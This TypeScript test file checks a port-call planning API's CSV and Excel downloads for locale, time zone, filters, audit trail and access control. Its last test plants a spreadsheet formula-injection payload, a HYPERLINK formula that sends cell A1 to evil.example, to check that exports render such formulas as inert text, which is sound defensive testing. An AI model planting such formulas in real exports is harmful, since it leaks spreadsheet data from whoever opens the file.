import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createUser, loginAs } from '../../test/fixtures';
import { type PortcallWorld, createPortcallWorld } from '../../test/portcall-world';
import { DB_TARGETS, type TestApp, createTestApp } from '../../test/test-app';

describe.each(DB_TARGETS)('downloads on %s', (target) => {
  let t: TestApp;
  let w: PortcallWorld;
  beforeAll(async () => {
    t = await createTestApp(target);
    // Planning a week ahead of the calls, so they are open tasks.
    t.clock.set(new Date('2026-06-24T08:00:00Z'));
    w = await createPortcallWorld(t, { plannerLocale: 'de' });
    // Summer in Berlin: 10:00 UTC is 12:00 local.
    await w.agent('POST', '/portcalls', w.request('2026-07-01T10:00:00Z', '2026-07-02T10:00:00Z', { voyage_number_import: '501W', cargo_details: [{ cargo_type: 'Container (boxes)', discharge: 100, load: 80, restow: 4 }] }));
    await w.agent('POST', '/portcalls', w.request('2026-08-01T10:00:00Z', '2026-08-02T10:00:00Z', { voyage_number_import: '777"Q', comment: 'a, b' }));
  });
  afterAll(async () => t?.close());

  it('writes quoted CSV with a BOM, in the user\u2019s language and time zone, honouring the filters', async () => {
    const res = await w.planner('GET', `/portcall/download?format=csv&terminal_id=${w.terminal.id}&from=2026-06-30T00:00:00Z&to=2026-07-15T00:00:00Z`);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toMatch(/text\/csv/);
    // Named after the days it covers, in the planner's zone (the end is exclusive).
    expect(res.headers['content-disposition']).toBe('attachment; filename="portcalls-2026-06-30-2026-07-15.csv"');
    expect(res.rawPayload[0]).toBe(0xef);
    const lines = res.rawPayload.toString('utf8').replace(/^\uFEFF/, '').trim().split('\r\n');
    expect(lines).toHaveLength(2);
    // A German CSV is what a German spreadsheet reads: semicolons between the fields.
    expect(lines[0]).toMatch(/^"Schiff";"IMO";"Status";"Reederei"/);
    expect(lines[1]).toContain('"2026-07-01 12:00"');
    expect(lines[1]).toContain('"184"');
    const noBom = await w.planner('GET', '/portcall/download?format=csv&bom=false&q=777');
    expect(noBom.rawPayload[0]).toBe('"'.charCodeAt(0));
    expect(noBom.rawPayload.toString('utf8')).toContain('"777""Q"');
    const tokyo = await w.planner('GET', '/portcall/download?format=csv&timezone=Asia/Tokyo&q=501W');
    expect(tokyo.rawPayload.toString('utf8')).toContain('"2026-07-01 19:00"');
  });

  it('follows the language asked for, and takes the spec\u2019s type=csv|xls beside format', async () => {
    const english = (await w.planner('GET', '/portcall/download?type=csv&locale=en&q=501W')).rawPayload.toString('utf8').replace(/^\uFEFF/, '');
    expect(english.split('\r\n')[0]).toMatch(/^"Vessel","IMO","Status","Vessel operator"/);
    const xls = await w.planner('GET', '/portcall/download?type=xls&q=501W');
    expect(xls.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const tasks = await w.planner('GET', '/portcall-tasks-list/download?type=xls&list=open');
    expect(tasks.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const legacy = (await w.planner('GET', '/portcall-tasks-list/download?type=open&format=csv&locale=fr')).rawPayload.toString('utf8').replace(/^\uFEFF/, '');
    expect(legacy.split('\r\n')[0]).toMatch(/^"Navire";"IMO"/);
    expect(JSON.stringify((await w.planner('GET', '/portcall/download?type=pdf')).json())).toContain('Use csv or xls');
    expect((await w.planner('GET', '/portcall/download?locale=it')).statusCode).toBe(400);
    // Only the task list still reads its old `type=open|closed`.
    expect((await w.planner('GET', '/portcall/download?type=open')).statusCode).toBe(400);
  });

  it('writes a real Excel workbook', async () => {
    const res = await w.planner('GET', '/portcall/download?format=xls');
    expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    expect(sheet.getRow(1).getCell(1).value).toBe('Schiff');
    expect(sheet.rowCount).toBe(3);
  });

  it('downloads the audit trail and the task list, only what the user may see', async () => {
    const audit = (await w.planner('GET', '/portcall_audit/download?format=csv')).rawPayload.toString('utf8');
    // One "created" event per call, and the header.
    expect(audit.trim().split('\r\n')).toHaveLength(3);
    expect(audit).toContain('"created"');
    // Changes read as a person reads them: field by field, times in the planner's zone, no stored JSON.
    expect(audit).toContain('berth_arrival: 2026-07-01 12:00; berth_departure: 2026-07-02 12:00"');
    expect(audit).not.toMatch(/"\{/);
    const tasks = (await w.planner('GET', '/portcall-tasks-list/download?format=csv&type=open')).rawPayload.toString('utf8');
    expect(tasks.trim().split('\r\n')).toHaveLength(3);
    const stranger = await createUser(t.database.db);
    const token = await loginAs(t.app, stranger.email);
    const none = await t.app.inject({ method: 'GET', url: '/api/portal/v1/portcall/download?format=csv', headers: { 'x-portal-token': token } });
    expect(none.rawPayload.toString('utf8').trim().split('\r\n')).toHaveLength(1);
    expect((await t.app.inject({ method: 'GET', url: '/api/portal/v1/portcall/download' })).statusCode).toBe(401);
    expect((await w.planner('GET', '/portcall/download?format=pdf')).statusCode).toBe(400);
  });
  it('writes a cell a spreadsheet would run as a formula as text: quoted with a leading single quote in CSV, a text cell in Excel', async () => {
    const planted = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
    await w.agent('POST', '/portcalls', w.request('2026-09-01T10:00:00Z', '2026-09-02T10:00:00Z', { voyage_number_import: 'FX1', voyage_number_export: '@SUM(1+1)', service_name: planted }));
    const csv = (await w.planner('GET', '/portcall/download?format=csv&q=FX1')).rawPayload.toString('utf8');
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")"`);
    expect(csv).toContain(`"'@SUM(1+1)"`);
    expect(csv).not.toMatch(/(^|[,;\n])"[=@+-]/);

    const xlsx = await w.planner('GET', '/portcall/download?format=xlsx&q=FX1');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    const cells = sheet.getRow(2).values as unknown[];
    expect(cells).toContain(planted);
    sheet.eachRow((row) => row.eachCell((cell) => expect(cell.type, String(cell.value)).not.toBe(ExcelJS.ValueType.Formula)));
  });
});
